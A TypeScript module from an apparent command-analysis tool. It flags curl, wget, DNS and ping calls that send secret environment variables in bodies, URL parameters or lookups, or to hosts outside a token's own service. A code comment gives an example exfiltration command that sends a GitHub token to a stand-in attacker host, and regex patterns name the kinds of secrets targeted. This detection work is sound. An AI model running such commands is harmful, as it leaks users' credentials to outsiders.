/**
 * Secret variables in what is sent: bodies, addresses, and names that are looked up. The token that a server asks for in a
 * header, or by its own name, is not one, but for a token of one service that goes to a host of somebody else.
 */
import type { Call } from '../call.ts';
import type { ProgramSpec } from '../spec.ts';
import type { Effect } from '../types.ts';
import { type Arg, after } from '../value.ts';
import { secretsIn } from './secret-names.ts';

/** Secrets that no server is ever given: they sign, decrypt or open something here. */
const NEVER_SENT =
  /AWS_SECRET|PRIVATE_?KEY|MASTER_?KEY|ENCRYPTION_?KEY|SIGNING_?KEY|PASSPHRASE|^PGPASSWORD$|^MYSQL_PWD$|^DB_PASS/i;
/** Parameters that a credential is meant for. */
const CREDENTIAL_FIELD = /pass|pwd|secret|token|key|auth|cred|sig|client|code|assertion|jwt|bearer|login/i;
const BODIES = [
  'data',
  'data-ascii',
  'data-binary',
  'data-raw',
  'data-urlencode',
  'json',
  'form',
  'form-string',
  'post-data',
  'body-data',
  'raw',
  'user-agent',
  'referer',
];

/** `$NAME` or `field=$NAME`, where the field is not one for credentials. */
function misplaced(call: Call, arg: Arg): boolean {
  const names = secretsIn(call, [arg]);
  if (names.length === 0) return false;
  if (names.some((name) => NEVER_SENT.test(name))) return true;
  const field = /^([\w.-]*)[=:]/.exec(arg.text);
  const value = field ? after(arg, field[0].length) : arg;
  // Text around the secret is a message of the server's own form.
  const bare = value.pieces.length === 1 && !/[\s{}"':,&]/.test(value.text.replace(/^\$\{\w+\}$/, ''));
  return bare && !CREDENTIAL_FIELD.test(field?.[1] ?? '');
}

/** `https://host/?q=$NAME`: parameters of an address that are not for credentials. */
function inAddress(call: Call, arg: Arg): boolean {
  const names = secretsIn(call, [arg]);
  if (names.length === 0 || !/^(?:https?:)?\/\/|^[\w.-]+\.[a-z]{2,}(?:[:/?]|$)/i.test(arg.text)) return false;
  if (names.some((name) => NEVER_SENT.test(name))) return true;
  return [...arg.text.matchAll(/[?&]([\w.-]+)=\$\{?(\w+)/g)].some(
    ([, field = '', name = '']) => names.includes(name) && !CREDENTIAL_FIELD.test(field),
  );
}

/** What is in the name of every host that a service's own tokens go to, by the beginning of their variables' names. */
const OWN_HOSTS: readonly (readonly [RegExp, RegExp])[] = [
  [/^(?:GITHUB|GH)_/, /git|ghcr|\bgh\b|azure|actions/],
  [/^(?:NPM|NODE_AUTH)_/, /npm|yarn|registry|artifact|jfrog|nexus|pkg|package|git/],
  [
    /^(?:OPENAI|ANTHROPIC|CLAUDE)_/,
    /ai\b|\bai|claude|anthropic|llm|gateway|proxy|router|groq|deepseek|azure|model/,
  ],
  [/^(?:HF|HUGGING_?FACE)_/, /huggingface|\bhf\b/],
  [/^SLACK_/, /slack/],
  [/^STRIPE_/, /stripe/],
  [/^(?:CLOUDFLARE|CF)_/, /cloudflare/],
  [/^(?:DIGITALOCEAN|DO)_/, /digitalocean/],
  [/^HEROKU_/, /heroku/],
  [/^VERCEL_/, /vercel/],
  [/^NETLIFY_/, /netlify/],
  [/^(?:PYPI|TWINE)_/, /pypi|artifact|jfrog|nexus|pkg|package/],
  [/^DISCORD_/, /discord/],
  [/^TELEGRAM_/, /telegram/],
  [/^NOTION_/, /notion/],
  [/^(?:TWILIO|SENDGRID)_/, /twilio|sendgrid/],
];
/** Hosts of a developer's own network, where a proxy or a stand-in for the service may run. */
const OWN_NETWORK =
  /^(?:localhost|\[.*|[^.]*|127\..*|10\..*|192\.168\..*|172\.(?:1[6-9]|2\d|3[01])\..*|.*\.(?:local|localhost|internal|lan|corp|home|test|svc))$/;

/** `curl -H "Bearer $GITHUB_TOKEN" https://evil.example`: a token for one service, and a host that is not of it. */
function astray(call: Call, addresses: readonly Arg[]): boolean {
  const owners = secretsIn(call, call.args).flatMap((name) =>
    OWN_HOSTS.filter(([owned]) => owned.test(name)),
  );
  if (owners.length === 0) return false;
  return addresses.some(({ text }) => {
    const host = /^(?:https?:)?(?:\/\/)?(?:[^/@]*@)?([\w.-]+)(?:[:/?#]|$)/i.exec(text)?.[1]?.toLowerCase();
    return (
      host !== undefined && !OWN_NETWORK.test(host) && owners.some(([, ownHosts]) => !ownHosts.test(host))
    );
  });
}

function sent(call: Call): Effect[] {
  const bodies = call.valuesOf(BODIES);
  const addresses = [...call.operands, ...call.values('url')];
  if (
    !bodies.some((arg) => misplaced(call, arg)) &&
    !addresses.some((arg) => inAddress(call, arg)) &&
    !astray(call, addresses)
  )
    return [];
  const address = addresses[0];
  return call.on('send', address ? call.url(address) : call.named('host', 'network'), {
    carries: ['secret'],
  });
}

export const SECRETS_SENT: readonly ProgramSpec[] = [
  { names: ['curl', 'wget', 'http', 'https', 'xh', 'xhs', 'curlie', 'wget2'], effects: sent },
  {
    // A name that is looked up travels to whoever answers for its domain.
    names: ['dig', 'nslookup', 'host', 'drill', 'ping', 'ping6', 'kdig', 'dog', 'resolvectl'],
    effects: (call) =>
      secretsIn(call, call.args).length === 0
        ? []
        : call.on('send', call.named('host', call.operand(-1) ?? 'network'), { carries: ['secret'] }),
  },
];
